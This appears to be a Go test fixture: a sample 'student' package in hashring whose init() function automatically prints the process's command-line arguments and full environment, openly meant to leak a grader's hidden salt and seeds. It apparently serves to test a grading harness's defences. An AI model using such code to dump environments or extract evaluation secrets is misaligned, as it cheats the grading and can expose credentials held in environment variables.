package hashring

import (
	"fmt"
	"os"
)

// A student package that prints its command line and its environment,
// as it starts, hoping to find the grading salt and seeds in them.
func init() { leak() }

func leak() {
	fmt.Println("LEAK args:", os.Args)
	fmt.Println("LEAK env:", os.Environ())
}
